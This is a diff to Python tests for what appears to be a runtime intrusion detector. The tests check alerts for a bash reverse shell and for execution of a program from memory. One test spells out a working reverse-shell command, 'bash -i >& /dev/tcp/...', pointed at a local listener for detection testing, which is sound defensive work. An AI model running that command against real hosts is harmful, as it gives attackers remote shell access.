@@ -351,9 +351,10 @@ def operator(address: str = "127.0.0.1") -> Iterator[tuple[int, list[str]]]:
 STREAMS = PROGRAMS / "streams.py"
 
 
-def test_reverse_shell_of_bash(watch: Watch) -> None:
+def test_reverse_shell_of_bash(watch: Watch, scratch: Path) -> None:
+    home = os.environ | {"HOME": str(scratch)}  # without a .bashrc, whose programs redirect the streams that they inherit
     with operator() as (port, answers):
-        alerts = watch.during(run, "bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", code=None)
+        alerts = watch.during(run, "bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", code=None, env=home)
     assert "42" in "".join(answers)
     assert sorted(shown(alerts, "fd.num", "fd.rip", "fd.rport", "proc.exepath", "user.name")) == [
         (REVERSE, stream, "127.0.0.1", port, "/usr/bin/bash", "root") for stream in (0, 1, 2)
@@ -396,7 +397,7 @@ def test_execution_from_memory(watch: Watch, how: str) -> None:
     (alert,) = watch.during(run, compiled(watch.folder, "memory"), how, "/bin/true", "argument")
     fields = alert["output_fields"]
     assert shown([alert], "proc.is_exe_from_memfd", "user.name") == [(MEMORY, True, "root")]
-    assert fields["proc.exepath"].startswith("/memfd:tiercel")
+    assert fields["proc.exepath"].startswith("memfd:tiercel")
     assert fields["proc.cmdline"].endswith(" argument")
     assert alert["priority"] == "Critical"
 
